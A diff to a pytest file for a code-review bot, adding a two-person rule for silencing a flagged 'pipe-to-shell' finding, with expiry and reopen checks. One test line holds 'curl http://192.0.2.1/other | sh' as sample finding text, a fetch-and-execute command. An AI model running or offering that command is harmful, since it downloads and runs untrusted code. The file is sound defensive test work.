@@ -18,11 +18,13 @@ from bot.core.review import (
     Hat,
     Known,
     State,
+    Step,
     Verb,
     decide,
     hats,
     involved,
 )
+from bot.core.review_quiet import suppressions
 from tests.reviews.world import ANA, BEN, CALLED, GUEST, KNOWN, NOBODY, NOW, OMAR, RAJ, RHEA, flag, move, review
 
 EVERYBODY = {
@@ -50,14 +52,15 @@ def at(state):
     """A review of Ana's in a state, answered by her where that state has an answer."""
     answered = state in (State.ANSWERED, State.APPROVED, State.ESCALATED, State.SNOOZED)
     given = {"reason": "deploy", "answered_by": ANA.id} if answered else {}
-    return review(state=state, owner=KNOWN, turn=3, **given)
+    proposed = Step(NOW, "U0PROPOSER", Verb.PROPOSE, State.APPROVED, 1, "harmless", until=NOW + timedelta(days=30))
+    return review(state=state, owner=KNOWN, turn=3, steps=(proposed,) if state is State.APPROVED else (), **given)
 
 
 @pytest.mark.parametrize("state", list(State))
 @pytest.mark.parametrize("verb", list(Verb))
 @pytest.mark.parametrize("name", EVERYBODY)
 def test_every_triple(state, verb, name):
-    """8 states, 19 verbs, 8 people: allowed exactly where the table and the hats say so, and nothing changes where not."""
+    """8 states, 21 verbs, 8 people: allowed exactly where the table and the hats say so, and nothing changes where not."""
     before, who = at(state), EVERYBODY[name]
     outcome = decide(before, move(verb, who, turn=None if who.bot else 3), ON_CALL)
     allowed = (state, verb) in TABLE and bool(WORN.get(name, set()) & WHO[verb]) and not (name == "owner" and verb in SECOND)
@@ -78,8 +81,8 @@ def test_every_verb_is_somebodys_and_every_state_is_reached():
 
 
 def test_what_is_signed_leads_nowhere_but_to_a_new_beginning():
-    """From a decision there is only the way to open it again, the end of the session, and the note of how that went."""
-    assert {Verb.REOPEN, Verb.ENDED, Verb.END} == {verb for state, verb in TABLE if state in DONE}
+    """From a decision there is only the way to open it again, the end of the session and how that went, and to flag it no more."""
+    assert {Verb.REOPEN, Verb.ENDED, Verb.END, Verb.PROPOSE, Verb.AGREE} == {verb for state, verb in TABLE if state in DONE}
 
 
 @pytest.mark.parametrize("verb", sorted(SECOND))
@@ -170,3 +173,23 @@ def test_what_is_found_after_the_answer_asks_again():
 def test_long_words_are_cut():
     after = decide(at(State.ASKED), move(Verb.MINE, ANA, note="x" * 5000, ticket="t" * 500)).review
     assert (1000, 100) == (len(after.reason), len(after.ticket))
+
+
+@pytest.mark.parametrize("proposer", [pytest.param(ANA, id="the owner"), pytest.param(RHEA, id="a reviewer")])
+def test_two_people_flag_it_no_more(proposer):
+    """Who proposed it does not agree to it, nor does the owner; before both have spoken it is flagged as before."""
+    signed = at(State.APPROVED)
+    signed = replace(signed, steps=())
+    assert not decide(signed, move(Verb.AGREE, RAJ, turn=3)).done
+    proposed = decide(signed, move(Verb.PROPOSE, proposer, turn=3, until=NOW + timedelta(days=30))).review
+    assert () == suppressions([proposed])
+    for alone in (proposer, ANA):
+        assert "second person" in decide(proposed, move(Verb.AGREE, replace(alone, role=RHEA.role), turn=4)).why
+    both = decide(proposed, move(Verb.AGREE, RAJ, turn=4)).review
+    [quiet] = suppressions([both])
+    assert ("pipe-to-shell", proposer.id, "deploy of CHG-1") == (quiet.rule, quiet.owner, quiet.reason)
+    finding = both.flag.findings[0]
+    assert quiet.fits(finding, (NOW + timedelta(days=30)).date())
+    assert not quiet.fits(finding, (NOW + timedelta(days=31)).date())
+    assert not quiet.fits(replace(finding, text="curl http://192.0.2.1/other | sh"), NOW.date())
+    assert () == suppressions([decide(both, move(Verb.REOPEN, RAJ, turn=5)).review])
